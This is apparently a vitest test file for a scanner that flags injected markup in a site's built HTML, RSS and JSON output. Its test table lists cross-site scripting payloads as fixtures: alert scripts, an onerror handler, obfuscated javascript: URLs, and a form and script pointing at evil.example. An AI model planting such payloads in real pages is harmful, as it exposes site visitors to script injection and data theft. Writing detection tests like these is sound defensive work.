import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { scanHtml, scanJson, scanXml } from './scanLiveMarkup';

const sha = (text: string): string => `sha256-${createHash('sha256').update(text).digest('base64')}`;
const inline = 'console.log("site")';
const page = (body: string, head = ''): string =>
  `<!doctype html><html><head><meta http-equiv="content-security-policy" content="script-src 'self' '${sha(inline)}'; style-src 'self'">${head}` +
  `<script type="module" src="/three-capitals/_astro/page.abc.js"></script><script>${inline}</script></head><body>${body}</body></html>`;

describe('the live-markup scanner (what the hostile build test relies on)', () => {
  it('accepts a clean page with site scripts (external bundle, hashed inline, JSON data)', () => {
    expect(scanHtml(page('<p>ok <a href="https://example.org/">x</a></p><script type="application/json" id="d">{"a":"</scr"}</script>'), 'p.html')).toEqual([]);
  });

  it.each([
    ['<script>alert(1)</script>', 'script not produced by the site'],
    ['<script src="https://evil.example/x.js"></script>', 'script not produced by the site'],
    ['<img src=x onerror=alert(1)>', 'event handler onerror'],
    ['<a href=" java\tscript:alert(1)">x</a>', 'javascript: URL in href'],
    ['<a href="vbscript:x">x</a>', 'vbscript: URL in href'],
    ['<iframe src="/x"></iframe>', 'forbidden element <iframe>'],
    ['<object></object>', 'forbidden element <object>'],
    ['<embed src="/x">', 'forbidden element <embed>'],
    ['<form action="javascript:alert(1)"></form>', 'javascript: URL in action'],
    ['<form action="https://evil.example/collect"></form>', 'third-party resource'],
    ['<base href="/">', 'forbidden element <base>'],
    ['<math></math>', 'forbidden element <math>'],
    ['<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', 'javascript: URL in href'],
    ['<meta http-equiv="refresh" content="0;url=/x">', 'meta http-equiv=refresh'],
    ['<style>body{}</style>', '<style> outside the page head'],
    ['<img src="https://evil.example/p.png">', 'third-party resource'],
    ['<script type="application/json">{"a":1}</script><script>x()</script>', 'script not produced by the site'],
  ])('flags %s', (body, rule) => {
    expect(scanHtml(page(body), 'p.html').map((f) => f.rule)).toContain(rule);
  });

  it('flags a page without its CSP meta tag', () => {
    expect(scanHtml('<html><head></head><body>x</body></html>', 'p.html').map((f) => f.rule)).toContain('expected one CSP meta tag, found 0');
  });

  it('reads feed descriptions as the HTML readers render, and JSON html fields and URLs', () => {
    const rss = '<?xml version="1.0"?><rss><channel><item><title>t</title><description>&lt;img src=x onerror=alert(1)&gt;</description></item></channel></rss>';
    expect(scanXml(rss, 'rss.xml').map((f) => f.rule)).toContain('event handler onerror');
    expect(scanXml('<rss><channel><item><description>&amp;lt;img src=x onerror=alert(1)&amp;gt;</description></item></channel></rss>', 'ok.xml')).toEqual([]);
    expect(scanXml('<rss><channel>', 'broken.xml').map((f) => f.rule)).toContain('XML does not parse');
    expect(scanJson('{"html":"<p onclick=x>t</p>","url":"javascript:alert(1)","text":"<script>"}', 'd.json').map((f) => f.rule)).toEqual([
      'event handler onclick',
      'javascript: URL in .url',
    ]);
  });
});
